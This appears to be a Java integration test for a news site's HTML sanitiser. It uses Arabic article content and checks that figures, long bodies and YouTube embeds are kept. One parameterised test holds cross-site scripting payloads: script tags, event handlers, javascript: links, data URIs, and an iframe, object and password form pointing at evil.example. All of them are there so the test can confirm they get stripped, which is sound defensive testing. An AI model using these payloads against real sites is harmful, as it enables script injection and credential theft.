package io.newsroom.admin;

import static org.assertj.core.api.Assertions.assertThat;

import io.newsroom.support.ArticleFixtures;
import io.newsroom.support.IntegrationTest;
import io.newsroom.text.SearchText;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class SafeContentIT extends IntegrationTest {

    private static final String ARABIC_FIGURE = "<p dir=\"rtl\">أبرمت باكستان وإيران اتفاقية جديدة وهى خطة عمل مشتركة لمكافحة الإرهاب.</p>"
            + "<figure><img src=\"https://media.example.org/gate.jpg\" alt=\"بوابة الوزارة\">"
            + "<figcaption>ضابط شرطة يحرس بوابة الدخول الرئيسية لوزارة الخارجية الباكستانية، في إسلام أباد</figcaption></figure>"
            + "<h2>خطة عمل مشتركة للتعامل مع خطر الإرهاب</h2>"
            + "<blockquote><p>\"التهريب كان سبباً لخسارة اقتصادية لكلا البلدين\".</p></blockquote>"
            + "<ul><li>أولاً</li><li>ثانياً</li></ul><p><a href=\"https://www.alwafd.news/story\">المصدر</a></p>";

    @Test
    void arabicParagraphWithFigureAndCaptionSurvivesUnchanged() {
        Map<String, Object> body = ArticleFixtures.article("خبر بصورة");
        body.put("bodyHtml", ARABIC_FIGURE);
        String stored = ArticleFixtures.create(api.as(editorKey), body).json().get("bodyHtml").asString();
        assertThat(stored).isEqualTo(ARABIC_FIGURE);
    }

    @Test
    void aBodyWithMoreWordsThanASearchVectorHoldsIsSavedAndSearchableByItsOpening() {
        // 120,000 distinct words in a body of the largest size allowed: more than a 1 MB tsvector holds
        String words = IntStream.range(0, 120_000).mapToObj(i -> "k" + i).collect(Collectors.joining(" "));
        Map<String, Object> body = ArticleFixtures.article("خبر طويل جدا");
        body.put("bodyHtml", "<p>" + words + "</p>");
        String id = ArticleFixtures.create(api.as(editorKey), body).json().get("id").asString();
        assertThat(jdbc.queryForObject("SELECT search_vector @@ CAST(? AS tsquery) FROM article_search WHERE article_id = ?::uuid", Boolean.class,
                SearchText.tsquery("k10"), id)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<p>نص</p><script>alert(1)</script>",
            "<p onclick=\"alert(1)\">نص</p>",
            "<img src=\"x\" onerror=\"alert(1)\">",
            "<a href=\"javascript:alert(1)\">رابط</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">رابط</a>",
            "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">نص</p>",
            "<iframe src=\"https://evil.example/attack\"></iframe>",
            "<svg onload=\"alert(1)\"></svg>",
            "<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "<form action=\"https://evil.example\"><input name=\"password\"></form>",
            "<style>body{display:none}</style><p>نص</p>",
            "<object data=\"https://evil.example/x.swf\"></object>",
    })
    void dangerousMarkupIsStripped(String payload) {
        Map<String, Object> body = ArticleFixtures.article("محاولة حقن");
        body.put("bodyHtml", payload);
        String stored = ArticleFixtures.create(api.as(editorKey), body).json().get("bodyHtml").asString().toLowerCase();
        assertThat(stored).doesNotContain("<script", "onerror", "onclick", "onload", "javascript:", "style", "evil.example", "data:", "<form", "<object");
    }

    @Test
    void allowedVideoEmbedIsKept() {
        Map<String, Object> body = ArticleFixtures.article("فيديو");
        body.put("bodyHtml", "<iframe src=\"https://www.youtube.com/embed/abc123\" width=\"560\" height=\"315\" allowfullscreen></iframe>");
        String stored = ArticleFixtures.create(api.as(editorKey), body).json().get("bodyHtml").asString();
        assertThat(stored).contains("https://www.youtube.com/embed/abc123");
    }
}
